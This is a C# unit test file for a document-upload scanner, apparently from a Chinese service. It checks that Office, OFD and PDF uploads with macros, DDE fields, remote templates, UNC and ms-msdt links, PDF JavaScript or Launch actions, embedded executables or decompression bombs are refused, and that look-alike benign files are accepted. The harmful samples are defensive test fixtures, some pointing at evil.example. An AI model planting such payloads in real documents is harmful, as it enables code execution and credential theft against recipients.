using System.IO.Compression;
using System.Text;
using Dingzhou.Domain.Uploads;
using Dingzhou.Storage.Uploads;

namespace Dingzhou.Storage.Tests.Uploads;

/// <summary>What acts, reaches out or hides is not taken, whatever its names say; what only looks alike is.</summary>
public sealed class HarmfulContentTests
{
    private const string WordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private const string ExcelMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    private const string Relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

    public static TheoryData<string, byte[]> Harmful => new()
    {
        { "macros under another name", Word(("word/styles2.bin", "application/vnd.ms-office.vbaProject", "x")) },
        { "macros as a picture", Word(("word/media/a.png", "image/png", Ole)) },
        { "a text with macros, its part named as ever",
            Samples.Office(Type("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), "word/document.xml") },
        { "a macro sheet", Excel(("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<x/>")) },
        { "a control", Word(("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<x/>")) },
        { "an embedded object", Word(("word/embeddings/a.bin", "application/vnd.openxmlformats-officedocument.oleObject", Ole)) },
        { "an embedded package",
            Word(("word/embeddings/a.docx", "application/vnd.openxmlformats-officedocument.package", "PK\u0003\u0004")) },
        { "another archive as data",
            Word(("word/fonts/a.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "PK\u0003\u0004")) },
        { "a web page that is opened as text", Word(("word/a.htm", "text/html", "<html/>")) },
        { "a part nobody speaks of", Samples.Office(Type("word/document.xml", WordMain), "word/document.xml", "word/run.cmd") },
        { "data connections",
            Excel(("xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "<x/>")) },
        { "a template elsewhere", Word(("word/_rels/document.xml.rels", "", External("attachedTemplate", "https://evil.example/a.dotm"))) },
        { "a picture elsewhere", Word(("word/_rels/document.xml.rels", "", External("image", @"\\evil.example\share\a.png"))) },
        { "a link to a program", Word(("word/_rels/document.xml.rels", "", External("hyperlink", "file:///c:/windows/system32/cmd.exe"))) },
        { "a DDE field", Text($"<w:document {W}><w:fldSimple w:instr=' DDEAUTO c:\\\\cmd.exe \"/k calc\" '/></w:document>") },
        { "a DDE field over two runs",
            Text($"<w:document {W}><w:instrText> DDEA</w:instrText><w:r/><w:instrText>UTO c:\\\\cmd.exe</w:instrText></w:document>") },
        { "a DDE field in an element of another prefix",
            Text("<a:document xmlns:a='x'><a:instrText>dde excel a b</a:instrText></a:document>") },
        { "a DDE link",
            Excel(("xl/externalLinks/externalLink1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            "<externalLink><ddeLink ddeService='cmd'/></externalLink>")) },
        { "a DDE formula",
            Excel(("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            "<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>")) },
        { "a document type definition", Text("<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>") },
        { "what is no XML", Text("<w:document") },
        { "two parts of one name", Samples.Office(Type("word/document.xml", WordMain), "word/document.xml", "WORD/Document.xml") },
        { "a bomb", Text($"<x>{new string(' ', 60_000_000)}</x>") },
        { "many small parts that grow together",
            Samples.Zip(
            [("OFD.xml", "<x/>"), .. Enumerable.Range(0, 20).Select(i => ($"Doc_0/Pages/{i}.xml", new string(' ', 900_000)))]) },
        { "a program in an OFD", Samples.Zip(("OFD.xml", "<x/>"), ("Doc_0/Signs/Seal.esl", Program)) },
        { "a script in an OFD", Samples.Zip("OFD.xml", "Doc_0/Attachs/a.js") },
        { "an archive in an OFD", Samples.Zip(("OFD.xml", "<x/>"), ("Doc_0/Res/a.png", "PK\u0003\u0004")) },
        { "a script in a PDF", Pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj") },
        { "a script whose name is written in another way", Pdf("1 0 obj<</OpenAction<</S/J#61va#53cript/JS(app.alert(1))>>>>endobj") },
        { "a PDF that starts a program", Pdf("1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj") },
        { "a form with scripts", Pdf("1 0 obj<</AcroForm<</XFA 2 0 R>>>>endobj") },
        { "a form with scripts among packed objects",
            [.. Pdf("1 0 obj<</AcroForm 2 0 R>>endobj"),
            .. PackedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", "2 0 <</XFA 3 0 R>>")] },
        { "a script among packed objects",
            PackedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", "1 0 <</S/JavaScript/JS(app.alert(1))>>") },
        { "packed objects that do not say so", PackedPdf("/N 1/First 4/Filter/FlateDecode", "1 0 <</S/JavaScript/JS(app.alert(1))>>") },
        { "packed objects in another packing",
            Pdf("1 0 obj<</Type/ObjStm/N 1/First 4/Filter/LZWDecode/Length 3>>stream\nabc\nendstream endobj") },
        { "packed objects behind a filter before the packing",
            PackedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", "\u0002" + "1 0 <</S/JavaScript>>") },
        { "packed objects that are encrypted, beside others",
            [.. PackedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", "1 0 <<>>"),
            .. "2 0 obj<</Type/ObjStm>>stream\n\u0001\u0002\u0003\nendstream"u8] },
        { "a program in a PDF", PackedPdf("/Type/EmbeddedFile/Filter/FlateDecode", Program) },
        { "packed objects in letters that are packed",
            PackedPdf("/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/ASCIIHexDecode]", Convert.ToHexString("1 0 <</S/JavaScript>>"u8)) },
        { "packed objects that are packed twice", PackedPdf("/Type/ObjStm/N 1/First 4/Filter[/Fl/Fl]", "1 0 <</A 1>>") },
        { "packed objects with a difference to the row before",
            PackedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>",
            "\u00001 0 \u0000<</S\u0000/Jav") },
        { "a program in a PDF as it is", Pdf($"1 0 obj<</Type/EmbeddedFile>>stream\n{Program}\nendstream endobj") },
        { "an attachment in letters", Pdf("1 0 obj<</Type/EmbeddedFile/Filter/ASCII85Decode>>stream\n9jqo^~>\nendstream endobj") },
        { "streams without number", Pdf(string.Concat(Enumerable.Repeat("<<>>stream\n", 60_000))) },
        { "a text from elsewhere",
            Text($"<w:document {W}><w:instrText> INCLUDETEXT \"https://evil.example/a.docx\"</w:instrText></w:document>") },
        { "a sheet that asks a server",
            Excel(("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            "<worksheet><c><f>A1&amp;_xlfn.WEBSERVICE(A2)</f></c></worksheet>")) },
        { "a link to another machine", Word(("word/_rels/document.xml.rels", "", External("hyperlink", @"\\evil.example\share\a.exe"))) },
        { "a link to a program of the system", Word(("word/_rels/document.xml.rels", "", External("hyperlink", "ms-msdt:/id"))) },
        { "packed objects that grow without end",
            PackedPdf("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", "1 0 " + new string(' ', 70_000_000)) },
    };

    public static TheoryData<string, byte[]> Harmless => new()
    {
        { "links to be clicked", Word(("word/_rels/document.xml.rels", "", External("hyperlink", "https://www.dzs.gov.cn/"))) },
        { "links as people type them", Word(("word/_rels/document.xml.rels", "", Samples.Relationships(string.Concat(
            new[] { "http://www.dzs.gov.cn，", "mailto:a@b@c", "附件1.docx", "ftp://ftp.dzs.gov.cn/", "tel:0312-2310000", "#_Toc1", "" }
                .Select((t, i) =>
                $"<Relationship Id=\"r{i}\" Type=\"{Relation}hyperlink\" Target=\"{t}\" TargetMode=\"External\"/>"))))) },
        { "a picture that was pasted from elsewhere",
            Text($"<w:document {W}><w:instrText> INCLUDEPICTURE \"C:\\a.png\" \\* MERGEFORMATINET </w:instrText></w:document>") },
        { "other functions",
            Excel(("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            "<worksheet><c><f>MYIMAGE(\"WEBSERVICE(\")</f></c></worksheet>")) },
        { "large black pictures",
            [.. PackedPdf("/Subtype/Image/Filter/FlateDecode", new string('\0', 30_000_000)),
            .. PackedPdf("/Subtype/Image/Filter/FlateDecode", new string('\0', 50_000_000))] },
        { "objects that are not packed", Pdf("1 0 obj<</Type/ObjStm/N 1/First 4>>stream\n1 0 <</A 1>>\nendstream endobj") },
        { "a stream that only looks packed",
            Pdf("1 0 obj<</Filter/FlateDecode>>stream\n\u0078\u00BB\u0000\u0000\u0000\u0000abc\nendstream endobj") },
        { "the letters of a form by chance", Pdf("1 0 obj<</Length 9>>stream\nab/XFA cd\nendstream endobj") },
        { "other fields",
            Text($"<w:document {W}><w:instrText> HYPERLINK </w:instrText><w:instrText>\"https://www.dzs.gov.cn/dde\"</w:instrText><w:t>DDE</w:t></w:document>") },
        { "bars in texts and names of sheets",
            Excel(("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            "<worksheet><c><f>'甲|乙'!A1&amp;\"|\"</f></c></worksheet>")) },
        { "a sheet that shrinks much",
            Excel(("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            $"<x>{string.Concat(Enumerable.Range(0, 90_000).Select(i => $"<c r=\"A{i}\"><v>0</v></c>"))}</x>")) },
        { "pictures of cells by WPS", Excel(("xl/cellimages.xml", "application/vnd.wps-officedocument.cellimage+xml", "<x/>")) },
        { "a drawing of the old kind that is not well formed",
            Excel(("xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing", "<xml><br></xml>")) },
        { "a signed OFD with its own fonts",
            Samples.Zip("OFD.xml", "Doc_0/Res/font_1.ttf", "Doc_0/Signs/Sign_0/SignedValue.dat", "Doc_0/Signs/Sign_0/Seal.esl") },
        { "packed objects", PackedPdf("/Type/ObjStm/N 2/First 9/Filter/FlateDecode", "1 0 2 10 <</A 1>>  <</B 2>>") },
        { "a page that begins with numbers", PackedPdf("/Filter/FlateDecode", "1 0 0 1 72 720 cm BT (JavaScript) Tj ET") },
        { "words that only look alike", Pdf("1 0 obj<</Title(JavaScript)/Launched true/JavaScripts 1>>endobj") },
        { "the data of an invoice", PackedPdf("/Type/EmbeddedFile/Subtype/text#2Fxml/Filter/FlateDecode", "<?xml version=\"1.0\"?><发票/>") },
        { "a picture that begins with MZ", PackedPdf("/Subtype/Image/Filter/FlateDecode", "MZ" + Noise(4000)) },
    };

    private static string Ole => "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1";

    private static string Program => "MZ" + new string('\0', 0x3A) + "\u0040\0\0\0" + "PE\0\0" + new string('\0', 40);

    [Theory]
    [MemberData(nameof(Harmful))]
    public async Task What_acts_or_hides_is_not_taken(string what, byte[] file)
    {
        var refused = await Assert.ThrowsAsync<UploadRefusedException>(() => ScanAsync(file));

        Assert.True(refused.Fault == UploadFault.Harmful, what);
        Assert.InRange(refused.Detail.Zh.Length, 10, 160);
    }

    [Theory]
    [MemberData(nameof(Harmless))]
    public async Task What_only_looks_alike_is_taken(string what, byte[] file) =>
        Assert.NotNull(await ScanAsync(file) ?? throw new InvalidOperationException(what));

    [Fact]
    public async Task Any_bytes_after_the_signature_are_answered_with_a_type_or_a_refusal()
    {
        var random = new Random(20);
        byte[][] samples = [Samples.Docx(), Samples.Xlsx(), Samples.Ofd(), PackedPdf("/Type/ObjStm/Filter/FlateDecode", "1 0 <<>>")];
        for (var round = 0; round < 2000; round++)
        {
            var file = samples[round % samples.Length].ToArray();
            for (var changes = random.Next(1, 8); changes > 0; changes--)
                file[random.Next(8, file.Length)] = (byte)random.Next(256);
            try
            {
                await ScanAsync(random.Next(4) == 0 ? file[..random.Next(8, file.Length)] : file);
            }
            catch (UploadRefusedException)
            {
                // One of the two.
            }
        }
    }

    private static async Task<UploadType> ScanAsync(byte[] file)
    {
        using var scanner = new ContentScanner();
        return await scanner.ScanAsync(
            new MemoryStream(file), Signature.Candidates(file.AsSpan(0, Math.Min(file.Length, Signature.Length))), CancellationToken.None);
    }

    private static byte[] Word(params (string Name, string Type, string Content)[] parts) =>
        Office(("word/document.xml", WordMain, "<x/>"), parts);

    private static byte[] Excel(params (string Name, string Type, string Content)[] parts) =>
        Office(("xl/workbook.xml", ExcelMain, "<x/>"), parts);

    private static byte[] Text(string document) => Office(("word/document.xml", WordMain, document), []);

    private static byte[] Office((string Name, string Type, string Content) main, (string Name, string Type, string Content)[] parts) =>
        Samples.Office(
        string.Concat(parts.Prepend(main).Where(p => p.Type.Length > 0).Select(p => Type(p.Name, p.Type))),
        [.. parts.Prepend(main).Select(p => (p.Name, p.Content))]);

    private static string Type(string part, string type) => $"<Override PartName=\"/{part}\" ContentType=\"{type}\"/>";

    private static string External(string type, string target) =>
        Samples.Relationships($"<Relationship Id=\"r1\" Type=\"{Relation}{type}\" Target=\"{target}\" TargetMode=\"External\"/>");

    private static string Noise(int length)
    {
        var random = new Random(length);
        return string.Create(length, random, (text, r) =>
        {
            foreach (ref var c in text)
                c = (char)r.Next('a', 'z');
        });
    }

    private static byte[] Pdf(string objects) => Encoding.Latin1.GetBytes($"%PDF-1.7\n{objects}\n%%EOF\n");

    private static byte[] PackedPdf(string dictionary, string content)
    {
        using var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
            deflate.Write(Encoding.Latin1.GetBytes(content));
        return [.. Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj<<{dictionary}>>\nstream\n"), .. packed.ToArray(),
            .. "\nendstream endobj\n%%EOF\n"u8];
    }
}
